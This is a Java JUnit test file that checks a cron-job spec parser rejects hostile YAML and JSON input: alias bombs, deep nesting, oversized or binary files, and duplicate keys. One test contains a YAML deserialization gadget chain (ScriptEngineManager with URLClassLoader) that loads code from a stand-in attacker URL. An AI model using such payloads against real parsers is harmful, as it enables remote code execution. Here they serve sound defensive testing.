package dev.cronstone.model;

import static dev.cronstone.model.Specs.lines;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files built to hurt a parser: each gets one clear problem, quickly, and never an exception. */
class HostileInputTest {
  private static final Duration HANG_GUARD = Duration.ofSeconds(20);

  private static SpecFile guarded(Supplier<SpecFile> parse) {
    return assertTimeoutPreemptively(HANG_GUARD, parse::get);
  }

  private static void assertOneRootProblem(SpecFile file, String fragment) {
    assertThat(file.valid()).isFalse();
    assertThat(file.spec()).isEmpty();
    assertThat(file.problems()).hasSize(1);
    assertThat(file.problems().get(0).path()).isEqualTo("$");
    assertThat(file.problems().get(0).problem()).contains(fragment).doesNotContain("\n");
  }

  @Test
  void a_billion_laughs_alias_bomb_is_refused() {
    StringBuilder bomb = new StringBuilder("id: bomb\nlol0: &a0 [lol]\n");
    for (int i = 1; i < 10; i++) {
      bomb.append("lol").append(i).append(": &a").append(i).append(" [");
      bomb.append(String.join(", ", java.util.Collections.nCopies(9, "*a" + (i - 1))));
      bomb.append("]\n");
    }

    SpecFile file = guarded(() -> Specs.yaml(bomb.toString()));

    assertOneRootProblem(file, "YAML aliases (*a0) are not supported");
  }

  @Test
  void a_merge_key_alias_is_refused_too() {
    String text = lines("base: &base {timeout: PT1M}", "id: m", "limits: {<<: *base}");

    assertOneRootProblem(Specs.yaml(text), "YAML aliases");
  }

  @Test
  void ten_thousand_nested_lists_are_refused_in_yaml_and_json() {
    String deep = "[".repeat(10_000);
    String deepValue = "id: deep\nparameters: {x: " + deep + "}\n";

    assertOneRootProblem(guarded(() -> Specs.yaml(deep)), "nested deeper than 32 levels");
    assertOneRootProblem(guarded(() -> Specs.json(deep)), "nested deeper than 32 levels");
    assertOneRootProblem(guarded(() -> Specs.yaml(deepValue)), "nested deeper than 32 levels");
    assertOneRootProblem(
        guarded(() -> Specs.json("{\"parameters\":" + "{\"a\":".repeat(10_000))),
        "nested deeper than 32 levels");
  }

  @Test
  void a_300_kib_file_is_refused_before_parsing() {
    String big = "id: big\ndescription: \"" + "x".repeat(300 * 1024) + "\"\n";

    assertOneRootProblem(guarded(() -> Specs.yaml(big)), "spec files are limited to 256 KiB");
  }

  @Test
  void binary_content_is_refused() {
    byte[] binary = {(byte) 0x89, 'P', 'N', 'G', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};

    assertOneRootProblem(Specs.LOADER.parse("x.yaml", binary), "NUL bytes");
  }

  @Test
  void invalid_utf8_is_refused_with_its_offset() {
    byte[] latin1 = "id: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);

    assertOneRootProblem(
        Specs.LOADER.parse("x.yaml", latin1), "not UTF-8 text (invalid byte at offset 7)");
  }

  @Test
  void a_utf8_byte_order_mark_is_fine() {
    byte[] text =
        ("\uFEFFid: bom\ntask: {type: builtin, name: noop}\n").getBytes(StandardCharsets.UTF_8);

    assertThat(Specs.parse("x.yaml", text).problems()).isEmpty();
  }

  @Test
  void empty_blank_and_comment_only_files_are_empty() {
    assertOneRootProblem(Specs.yaml(""), "file is empty");
    assertOneRootProblem(Specs.yaml("  \n\t\n"), "file is empty");
    assertOneRootProblem(Specs.json(""), "file is empty");
    assertOneRootProblem(Specs.yaml("# nothing here\n"), "file is empty");
  }

  @Test
  void several_yaml_documents_are_refused() {
    String text =
        lines(
            "id: one",
            "task: {type: builtin, name: noop}",
            "---",
            "id: two",
            "task: {type: builtin, name: noop}");

    assertOneRootProblem(Specs.yaml(text), "several YAML documents");
  }

  @Test
  void content_after_the_json_object_is_refused() {
    assertOneRootProblem(
        Specs.json("{\"id\": \"a\"} {\"id\": \"b\"}"), "unexpected content after the JSON object");
    assertOneRootProblem(Specs.json("{\"id\": \"a\"} garbage"), "invalid JSON");
  }

  @Test
  void a_top_level_value_that_is_not_a_mapping_is_refused() {
    assertOneRootProblem(
        Specs.yaml("- id: a\n"), "mapping of fields (id, task, ...) at the top level, got a list");
    assertOneRootProblem(Specs.yaml("just text\n"), "got \"just text\"");
    assertOneRootProblem(Specs.json("42"), "got 42");
  }

  @Test
  void yaml_tags_are_refused_and_nothing_is_instantiated() {
    String runtime = lines("id: !!java.lang.Runtime x", "task: {type: builtin, name: noop}");
    String custom = lines("id: t", "task: !shell {type: builtin, name: noop}");
    String constructor =
        lines(
            "id: t",
            "parameters: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://attacker.invalid/\"]]]]");

    assertOneRootProblem(
        Specs.yaml(runtime), "YAML tags such as '!!java.lang.Runtime' are not allowed");
    assertOneRootProblem(Specs.yaml(custom), "'!shell'");
    assertOneRootProblem(Specs.yaml(constructor), "!!javax.script.ScriptEngineManager");
  }

  @Test
  void duplicate_keys_are_refused_in_yaml_and_json() {
    assertOneRootProblem(Specs.yaml(lines("id: a", "id: b")), "duplicate field 'id'");
    assertOneRootProblem(
        Specs.json("{\"id\": \"a\", \"task\": {\"type\": \"x\", \"type\": \"y\"}}"),
        "duplicate field 'type'");
  }

  @Test
  void broken_syntax_names_the_line() {
    assertOneRootProblem(Specs.yaml(lines("id: a", "task: [unclosed")), "line 3");
    assertOneRootProblem(Specs.json("{\"id\": \"a\",\n \"task\": }"), "line 2");
  }

  @Test
  void an_unquoted_cron_starting_with_a_star_gets_a_hint() {
    String text = lines("id: a", "schedule:", "  cron: * * * * *", "  timezone: UTC");

    assertOneRootProblem(Specs.yaml(text), "must be quoted, e.g. cron: \"* * * * *\"");
  }

  @Test
  void non_finite_and_huge_numbers_are_refused() {
    assertOneRootProblem(Specs.yaml(lines("id: n", "parameters: {x: .inf}")), "'.inf'");
    assertOneRootProblem(Specs.json("{\"parameters\": {\"x\": 1e999}}"), "number out of range");
    assertOneRootProblem(
        Specs.json("{\"parameters\": {\"x\": " + "9".repeat(500) + "}}"), "number");
  }

  @Test
  void a_nul_escape_in_json_text_is_refused() {
    assertOneRootProblem(Specs.json("{\"id\": \"a\\u0000b\"}"), "NUL character");
  }

  @Test
  void an_unknown_extension_is_refused() {
    assertOneRootProblem(
        Specs.parse("job.toml", "id = 'x'"), "spec files end in .yaml, .yml or .json");
  }

  @Test
  void files_that_cannot_be_read_become_problems(@TempDir Path dir) throws IOException {
    Path huge = dir.resolve("huge.yaml");
    try (RandomAccessFile sparse = new RandomAccessFile(huge.toFile(), "rw")) {
      sparse.setLength(2L * 1024 * 1024 * 1024);
    }

    assertOneRootProblem(Specs.LOADER.load(dir.resolve("missing.yaml")), "no such file");
    assertOneRootProblem(Specs.LOADER.load(dir), "is a directory");
    assertOneRootProblem(
        guarded(() -> Specs.LOADER.load(huge)), "spec files are limited to 256 KiB");
    Files.delete(huge);
  }
}
